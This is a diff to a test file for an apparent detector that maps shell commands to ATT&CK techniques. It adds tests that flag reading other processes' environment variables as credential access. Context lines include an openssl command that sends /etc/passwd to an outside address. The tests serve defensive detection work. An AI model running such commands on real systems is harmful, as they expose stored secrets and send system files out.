@@ -204,6 +204,12 @@ def test_a_tls_connection_by_hand_counts_when_it_carries_data() -> None:
     assert _techniques("openssl s_client -connect 198.51.100.7:4443 < /etc/passwd")["T1573"] >= 0.3
 
 
+def test_another_process_environment_is_credential_access_and_the_readers_own_is_not() -> None:
+    assert _techniques("cat /proc/1/environ")["T1552"] >= 0.25
+    assert _techniques("strings /proc/*/environ")["T1552"] >= 0.45
+    assert "T1552" not in _techniques("strings /proc/self/environ")
+
+
 def test_one_address_or_a_loop_over_hosts_by_name_is_no_sweep() -> None:
     assert "T1018" not in _techniques("ping -c 3 10.0.0.1")
     assert "T1018" not in _techniques("for h in web1 web2; do ssh $h uptime; done")
